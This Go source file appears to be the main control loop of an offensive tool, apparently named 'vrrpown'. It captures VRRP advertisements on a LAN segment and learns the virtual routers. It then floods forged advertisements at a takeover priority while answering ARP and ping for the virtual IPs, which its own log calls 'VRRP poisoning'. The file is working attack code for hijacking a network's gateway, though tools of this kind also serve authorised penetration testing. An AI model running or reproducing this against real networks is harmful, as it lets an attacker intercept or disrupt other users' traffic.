package app

import (
	"context"
	"net/netip"
	"time"

	"github.com/pkg/errors"
	log "github.com/sirupsen/logrus"
	"golang.org/x/sync/errgroup"

	"github.com/SepehrImanian/vrrpown/internal/core"
	"github.com/SepehrImanian/vrrpown/internal/domain"
	"github.com/SepehrImanian/vrrpown/internal/ports"
	"github.com/SepehrImanian/vrrpown/internal/proto"
)

// ErrNoAdvertisements means the capture window saw nothing to take over.
var ErrNoAdvertisements = errors.New("no VRRP frame captured")

// ShutdownGrace bounds how long Run waits for the responder after the
// transmit loop ends.
const ShutdownGrace = 2 * time.Second

// Daemon learns the virtual routers on the segment and takes them over.
type Daemon struct {
	SourceIP       netip.Addr
	CaptureTimeout time.Duration
	AdvertInterval time.Duration
	Priority       uint8

	Capture ports.FrameCapture
	Sender  ports.FrameSender
	Info    ports.LocalInfo
	Repo    ports.RouterRepo

	Logger log.FieldLogger
}

// Run blocks until ctx is cancelled, the responder fails, or an
// advertisement cannot be sent. It returns ErrNoAdvertisements when the
// capture learned nothing.
func (d *Daemon) Run(ctx context.Context) error {
	if d.Logger == nil {
		d.Logger = log.StandardLogger()
	}
	state := domain.NewRunState(ctx)

	d.Logger.WithField("timeout", d.CaptureTimeout).Info("looking for VRRP frames")
	frames, err := d.Capture.Collect(state.Context(), core.AdvertisementFilter, d.CaptureTimeout)
	if err != nil {
		return errors.Wrap(err, "sniffing VRRP frames")
	}

	d.Logger.WithField("frames", len(frames)).Info("processing captured frames")
	learned := core.NewExtractor(d.Repo, d.Logger).Learn(frames)
	if learned == 0 {
		return ErrNoAdvertisements
	}
	if !state.Running() {
		return nil
	}

	mac, err := d.Info.HardwareAddr()
	if err != nil {
		return errors.Wrap(err, "local hardware address")
	}

	prio := d.Priority
	if prio == 0 {
		prio = proto.TakeoverPriority
	}
	tx, err := NewTransmitter(d.SourceIP, d.Repo.List(), prio, d.Sender, d.Logger)
	if err != nil {
		return err
	}
	if d.AdvertInterval > 0 {
		tx.Interval = d.AdvertInterval
	}
	rsp := &Responder{
		VIPs:    d.Repo.VIPs(),
		MAC:     mac,
		Capture: d.Capture,
		Sender:  d.Sender,
		Logger:  d.Logger,
	}

	var g errgroup.Group
	g.Go(func() error { return rsp.Run(state) })

	d.Logger.WithFields(log.Fields{
		"routers":  learned,
		"priority": prio,
		"interval": tx.Interval,
	}).Info("starting VRRP poisoning")
	txErr := tx.Run(state)
	state.Stop(txErr)

	done := make(chan struct{})
	go func() {
		_ = g.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(ShutdownGrace):
		d.Logger.Warn("responder did not stop in time, leaving it behind")
	}

	d.Logger.WithFields(log.Fields{
		"rounds":         tx.Rounds(),
		"advertisements": tx.Sent(),
		"arp_replies":    rsp.ARPReplies(),
		"echo_replies":   rsp.EchoReplies(),
	}).Info("stopped")

	if txErr != nil {
		return txErr
	}
	if cause := state.Cause(); cause != nil && !errors.Is(cause, context.Canceled) {
		return errors.Wrap(cause, "responder")
	}
	return nil
}
